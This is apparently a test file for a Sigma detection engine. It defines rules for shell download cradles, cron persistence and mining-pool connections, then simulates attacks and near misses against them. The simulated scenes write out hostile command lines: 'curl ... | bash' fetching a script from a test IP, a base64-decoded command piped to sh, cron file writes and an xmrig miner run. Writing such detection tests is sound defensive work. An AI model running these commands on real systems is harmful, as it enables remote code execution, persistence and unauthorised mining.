/**
 * Attacks as the collector reports them (traces written with TraceWriter through the policy tests'
 * `Scene`), against Sigma rules: the reference's shipped process_creation rules (with its sysflow.yml,
 * read from ../shared/conformance, never copied) and rules written here in SigmaHQ's style for the other
 * categories. Each attack fires the matching rules on the matching records only; each near miss fires
 * nothing.
 */
import * as fs from "node:fs"
import * as path from "node:path"
import { describe, expect, it } from "vitest"
import type { FlatRecord } from "../../src/domain/flatRecord.js"
import { readSigmaConfig } from "../../src/services/policy/sigma/SigmaConfig.js"
import { compileSigmaSources, type SigmaLoad } from "../../src/services/policy/sigma/SigmaLoader.js"
import { img, projectRoot, Scene } from "../policies/support.js"
import { diagnosticsOf, ruleYaml } from "./support.js"
import { yamlFilesUnder } from "../support/shared.js"

const shipped = path.resolve(projectRoot, "..", "shared", "conformance", "policies", "sigma")
const present = fs.existsSync(shipped)
if (!present) console.warn(`[skip] ${shipped} is absent: the Sigma scene tests are skipped`)


/** Rules of the other categories, written after SigmaHQ's Linux rules. */
const ours: Record<string, string> = {
  "download_cradle.yml": ruleYaml({
    title: "Download Piped Into A Shell",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a01",
    detection: [
      "selection_download:",
      "    CommandLine|contains:",
      "        - 'curl '",
      "        - 'wget '",
      "selection_pipe:",
      "    CommandLine|re: '\\|\\s*(ba|z|da)?sh\\b'",
      "condition: all of selection_*"
    ].join("\n")
  }),
  "cron_write.yml": ruleYaml({
    title: "Cron File Created Or Modified",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a02",
    logsource: "product: linux\ncategory: file_event",
    detection: [
      "selection_dirs:",
      "    TargetFilename|startswith:",
      "        - '/etc/cron.d/'",
      "        - '/etc/cron.daily/'",
      "        - '/var/spool/cron/crontabs/'",
      "selection_files:",
      "    TargetFilename|contains: '/etc/crontab'",
      "filter_package_manager:",
      "    TargetFilename:",
      "        - '/etc/cron.daily/apt'",
      "        - '/etc/cron.daily/dpkg'",
      "condition: 1 of selection_* and not 1 of filter_*"
    ].join("\n")
  }),
  "mining_pool_port.yml": ruleYaml({
    title: "Connection To A Mining Pool Port",
    id: "5f0b6a1e-6c1e-4a53-9a55-0f3f0c2b7a03",
    logsource: "product: linux\ncategory: network_connection",
    detection: [
      "selection:",
      "    Initiated: 'true'",
      "    DestinationPort:",
      "        - 3333",
      "        - 4444",
      "        - 5555",
      "        - 7777",
      "        - 14444",
      "        - 45700",
      "filter_local:",
      "    DestinationIp|cidr:",
      "        - '127.0.0.0/8'",
      "        - '10.0.0.0/8'",
      "        - '192.168.0.0/16'",
      "condition: selection and not filter_local"
    ].join("\n")
  })
}

/**
 * Two engines, as a pipeline would run them: the shipped rules with the shipped sysflow.yml, and ours
 * with the built-in mapping (sysflow.yml maps TargetFilename to sf.file.path, a rename's old name).
 */
const load = (): ReadonlyArray<SigmaLoad> => {
  const cfgPath = path.join(shipped, "config", "sysflow.yml")
  const cfg = readSigmaConfig(cfgPath, fs.readFileSync(cfgPath, "utf8"))
  if ("errors" in cfg) throw new Error("sysflow.yml does not load")
  const sources = yamlFilesUnder(path.join(shipped, "rules")).map((p) => ({ path: p, text: fs.readFileSync(p, "utf8") }))
  return [compileSigmaSources(sources, cfg.config), compileSigmaSources(Object.entries(ours).map(([p, text]) => ({ path: p, text })))]
}

/** `title @ TYPE exe` for every (record, rule) match. */
const alerts = (sets: ReadonlyArray<SigmaLoad>, records: ReadonlyArray<FlatRecord>): Array<string> =>
  records.flatMap((r) =>
    sets.flatMap((set) =>
      set.rules.filter((rule) => rule.conditionByType[r.type]?.(r) === true).map((rule) => `${rule.sigma.title} @ ${r.type} ${r.process?.exe}`)
    )
  )

describe.skipIf(!present)("Sigma rules on generated attacks", () => {
  const set = present ? load() : undefined!

  it("the 49 loadable shipped rules and ours load; the two needing LogonId are reported", () => {
    expect(set[0].rules).toHaveLength(49)
    expect(set[0].failed).toBe(2)
    expect(diagnosticsOf(set[0])).toHaveLength(2)
    expect(diagnosticsOf(set[0]).every((d) => d.includes("field 'LogonId' has no SysFlow equivalent"))).toBe(true)
    expect(set[1].rules).toHaveLength(3)
    expect(diagnosticsOf(set[1])).toEqual([])
  })

  it("curl | bash download cradle", () => {
    const s = new Scene()
    const shell = s.loginShell()
    const sh = s.spawn(shell, img.run("/bin/bash", "-c curl -fsSL http://203.0.113.5/x.sh | bash"))
    const c = s.spawn(sh, img.run("/usr/bin/curl", "-fsSL http://203.0.113.5/x.sh"))
    s.connect(c, "203.0.113.5", 80)
    s.spawn(sh, img.run("/bin/bash"))
    expect(alerts(set, s.records())).toEqual([
      "Download Piped Into A Shell @ PE /bin/bash",
      "Curl Usage on Linux @ PE /usr/bin/curl" // no alert on curl's network flow: the rule is process_creation
    ])
  })

  it("near miss: a download to a file, not piped into a shell", () => {
    const s = new Scene()
    const sh = s.spawn(s.loginShell(), img.run("/bin/bash", "-c wget -q -O /tmp/x.sh http://203.0.113.5/x.sh | tee /tmp/log"))
    s.spawn(sh, img.run("/usr/bin/wget", "-q -O /tmp/x.sh http://203.0.113.5/x.sh"))
    expect(alerts(set, s.records())).toEqual([])
  })

  it("base64-decoded command", () => {
    const s = new Scene()
    const sh = s.spawn(s.loginShell(), img.run("/bin/sh", "-c echo aWQgLWEK | base64 -d | sh"))
    s.spawn(sh, img.run("/usr/bin/base64", "-d"))
    s.spawn(sh, img.run("/bin/sh"))
    expect(alerts(set, s.records())).toEqual(["Decode Base64 Encoded Text @ PE /usr/bin/base64"])
  })

  it("near miss: encoding, not decoding", () => {
    const s = new Scene()
    s.spawn(s.loginShell(), img.run("/usr/bin/base64", "/etc/hostname"))
    expect(alerts(set, s.records())).toEqual([])
  })

  it("a write to /etc/cron.d (file_event), and a rename into it", () => {
    const s = new Scene()
    const shell = s.loginShell("root", 0)
    const tee = s.spawn(shell, img.run("/usr/bin/tee", "/etc/cron.d/updater"))
    s.write(tee, "/etc/cron.d/updater")
    const mv = s.spawn(shell, img.run("/bin/mv", "/tmp/job /var/spool/cron/crontabs/root"))
    s.rename(mv, "/tmp/job", "/var/spool/cron/crontabs/root")
    expect(alerts(set, s.records())).toEqual([
      "Cron File Created Or Modified @ FF /usr/bin/tee",
      "Cron File Created Or Modified @ FE /bin/mv"
    ])
  })

  it("near misses: reading cron files, writing elsewhere, the package manager's own cron file", () => {
    const s = new Scene()
    const shell = s.loginShell("root", 0)
    const cat = s.spawn(shell, img.run("/bin/cat", "/etc/cron.d/updater"))
    s.read(cat, "/etc/cron.d/updater")
    s.read(cat, "/etc/crontab")
    const dpkg = s.spawn(shell, img.run("/usr/bin/dpkg", "-i apt.deb"))
    s.write(dpkg, "/etc/cron.daily/apt")
    s.write(dpkg, "/etc/cron.dailyx")
    expect(alerts(set, s.records())).toEqual([])
  })

  it("a connection to a mining pool port, and the miner's command line", () => {
    const s = new Scene()
    const miner = s.spawn(s.loginShell(), img.run("/tmp/.x/xmrig", "-o pool.minexmr.com:4444 --donate-level=0 -k"))
    s.connect(miner, "198.51.100.20", 4444)
    expect(alerts(set, s.records())).toEqual([
      "Linux Crypto Mining Indicators @ PE /tmp/.x/xmrig",
      "Connection To A Mining Pool Port @ NF /tmp/.x/xmrig"
    ])
  })

  it("near misses: an HTTPS connection, a local pool port, an inbound connection on a pool port", () => {
    const s = new Scene()
    const shell = s.loginShell()
    const c = s.spawn(shell, img.run("/usr/bin/python3", "app.py"))
    s.connect(c, "198.51.100.20", 443)
    s.connect(c, "10.0.0.8", 3333)
    s.accept(s.hostService(img.run("/usr/sbin/redis", "--port 4444")), 4444)
    expect(alerts(set, s.records())).toEqual([])
  })
})
